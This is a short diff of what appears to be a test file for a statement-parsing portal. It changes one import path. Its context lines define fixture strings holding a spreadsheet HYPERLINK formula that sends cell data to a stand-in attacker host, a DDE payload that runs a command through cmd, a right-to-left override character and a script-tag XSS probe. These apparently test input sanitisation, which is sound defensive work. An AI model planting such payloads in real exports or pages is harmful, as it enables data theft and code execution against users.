@@ -1,5 +1,5 @@
 import { parseStatement } from '@portal/statement-proof';
-import { MoneyWorld, type PaidAuthor } from '../support/money-world.js';
+import { MoneyWorld, type PaidAuthor } from '../support/money/money-world.js';
 
 const DRIVE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
 const VENTURE = "\u202e@SUM(1+1)*cmd|' /C calc'!A0\"\r\n<script>alert(1)</script>";
